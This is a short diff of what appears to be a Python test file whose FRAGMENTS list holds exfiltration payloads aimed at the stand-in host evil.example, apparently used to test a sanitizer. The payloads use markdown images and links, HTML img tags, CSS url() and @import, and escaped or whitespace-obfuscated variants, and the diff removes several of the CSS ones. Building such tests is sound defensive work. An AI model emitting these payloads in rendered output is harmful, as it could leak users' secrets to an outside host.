@@ -37,8 +37,6 @@ FRAGMENTS = [
     "![x](https://evil.example/?d=secret) ", "[a](\n&#104;ttps://evil.example/x) ", "[r]: //evil.example/secret ",
     "![x](\u00a0\ufeff  \t<//evil.example/secret> ) ", "<https:evil.example/secret> ",
     '<p style="background: url( //evil.example/secret ) "> ', "URL( ' //evil.example/secret') ",
-    "<style>@import '//evil.example/secret'; ", 'image-set("a.png" 1x, " //evil.example/secret" 2x) ',
-    r"url(\2f\2f evil.example/secret) ", r"'\2f\2f evil.example\2f机密' ", r"@import 'http\73 \3a \2f/evil.example/secret'",
     '<img alt=">" src="https://evil.example/secret"> ', "https://evil.example/机密 ", "www.evil.example ",
 ]  # fmt: skip
 
